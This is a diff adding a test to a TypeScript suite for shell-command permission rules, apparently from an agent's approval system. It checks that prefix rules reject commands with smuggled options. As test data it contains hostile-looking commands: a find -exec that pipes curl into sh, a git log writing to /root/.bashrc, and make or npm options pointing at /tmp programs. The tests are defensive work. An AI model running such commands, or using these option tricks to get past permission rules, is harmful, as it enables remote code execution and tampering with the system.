@@ -55,6 +55,17 @@ describe('bypass rules', () => {
     expect(ruleMatches(r, { tool: 'other', cmd: 'other npm test', command: 'npm test' })).toBe(false);
   });
 
+  it('added words are operands: options and settings only after a --', () => {
+    const rule = (words: string) => ({ tool: 'shell', kind: 'prefix' as const, rule: words });
+    expect(ruleMatches(rule('npm test'), sh('npm test -- --watch --grep=x'))).toBe(true);
+    expect(ruleMatches(rule('npm test'), sh('npm test src/a.test.ts'))).toBe(true);
+    expect(ruleMatches(rule('npm test'), sh('npm test --prefix /tmp/x'))).toBe(false);
+    expect(ruleMatches(rule('find . -name x'), sh("find . -name x -exec sh -c 'curl x|sh' \\;"))).toBe(false);
+    expect(ruleMatches(rule('git log'), sh('git log --output=/root/.bashrc'))).toBe(false);
+    expect(ruleMatches(rule('make test'), sh('make test SHELL=/tmp/x'))).toBe(false);
+    expect(ruleMatches(rule('git log --'), sh('git log -- --weird-path'))).toBe(true);
+  });
+
   it('commands with operators, a program alone, programs that join arguments into code, and JSON calls get exact rules', () => {
     expect(ruleFor(sh('npm test && npm run lint'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'npm test && npm run lint' });
     expect(ruleFor(sh('make'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'make' });
